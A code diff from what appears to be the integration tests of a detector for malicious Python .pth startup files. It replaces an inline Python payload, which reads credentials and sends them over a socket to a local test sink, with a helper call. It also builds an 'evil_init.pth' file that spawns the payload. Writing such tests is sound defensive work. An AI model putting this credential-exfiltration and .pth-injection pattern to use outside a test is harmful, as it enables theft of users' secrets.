@@ -6,7 +6,7 @@ use std::time::Duration;
 
 use integration_tests::{
     Daemon, Sandbox, TcpSink, can_run,
-    payload::{READ_CREDENTIALS, exfil_alert, spawning_pth_line, wait_marker},
+    payload::{exfil_alert, exfiltrate, spawning_pth_line, wait_marker},
     pthwatch_bin, run_bounded,
 };
 use serde_json::Value;
@@ -32,20 +32,7 @@ fn an_incident_is_in_the_event_log_verifiable_queryable_and_drawn() {
     }
     let sb = Sandbox::new("eventlog");
     let sink = TcpSink::start();
-    let child = format!(
-        "{READ_CREDENTIALS}
-import socket
-try:
-    s = socket.create_connection(('127.0.0.1', {port}), timeout=5)
-    s.sendall(blob)
-    r = 'sent'
-except OSError as e:
-    r = 'error %d' % e.errno
-with open(os.path.join(home, 'payload.done'), 'w') as f:
-    f.write(r)
-",
-        port = sink.port
-    );
+    let child = exfiltrate(sink.port);
     let pth = sb.pth("evil_init.pth", &spawning_pth_line(&child));
     let log = sb.root.join("events.jsonl");
     let log_arg = log.to_string_lossy().into_owned();
